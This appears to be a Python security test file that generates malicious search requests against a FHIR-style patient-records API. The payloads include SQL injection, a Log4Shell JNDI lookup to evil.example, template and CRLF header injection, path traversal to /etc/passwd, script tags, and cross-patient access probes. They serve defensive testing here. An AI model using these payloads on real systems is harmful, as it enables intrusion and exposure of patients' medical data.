"""Search parameters that are statements, patterns, numbers out of range, or questions about others."""

from itertools import product

from tests.attack.forms import asked


def cases():
    yield asked("/Observation?code=x", "accepted")
    yield asked("/Observation?date=gt2030&date=lt2020", "accepted")
    for refused in (
        "_count=-5",
        "_count=x",
        "_count=1e3",
        "name:matches=x",
        "name:exact:exact=x",
        "birthdate=yesterday",
        "_sort=-",
        "birthdate=2020-02-30",
        "birthdate=zz2020",
        "_format=text/html",
        "_format=../x",
        "name=%C3%28",
        "name=%ff",
        "birthdate=2020-01-01T25:00:00Z",
        "_summary=%3Cscript%3E",
        "name=" + "b" * 30_000,
        "name=a&" * 3_000,
        "_sort=name,select%201",
        "_lastUpdated=gt",
    ):
        yield asked("/Patient?" + refused, never_in_answer=["<script"])
    for number in ("gt1e999", "NaN", "1e-99999", "0x1", "ltInfinity", "1__0"):
        yield asked("/Observation?value-quantity=" + number)
    injected = (
        "' OR '1'='1",
        "';SELECT pg_sleep(9)--",
        "\\'; --",
        "1) OR (1=1",
        "%27%20OR%201=1",
        "*",
        "?",
        "[a-z]*",
        "__",
        "%25%25",
        "${jndi:dns://evil.example/a}",
        "{{7*7}}",
        "a%0d%0aSet-Cookie:%20x=y",
        "../../etc/passwd",
        "$where=1",
    )
    yield from (
        asked(f"/Patient?{name}={value}", "neutral", never_in_answer=["root:", "set-cookie"])
        for name, value in product(("name", "identifier"), injected)
    )
    for path in (
        "_id={OTHER}",
        "_id={OWN},{OTHER}",
        "link={OTHER}",
        "_has:Observation:subject:_id=hidden-3c",
        "_total=accurate",
        "_has:Observation:patient:code:text=Other",
        "_sort=-_lastUpdated",
        "_elements=name",
        "_summary=count",
    ):
        yield asked("/Patient?" + path, "neutral")
    for path in (
        "patient={OTHER}",
        "subject=Patient/{OTHER}",
        "patient.name=Secret",
        "subject:Patient.given=Other",
        "_id=hidden-3c",
        "_include=Observation:subject",
        "_include=*&_count=500",
        "code:text=Otherh",
    ):
        yield asked("/Observation?" + path, "neutral")
    for body in ("_sort=1;drop", "_count=x", "name:regex=x", "a" * 40_000):
        form = {"content_type": "application/x-www-form-urlencoded", "body": body}
        yield asked("/Patient/_search", **form) | {"method": "POST"}
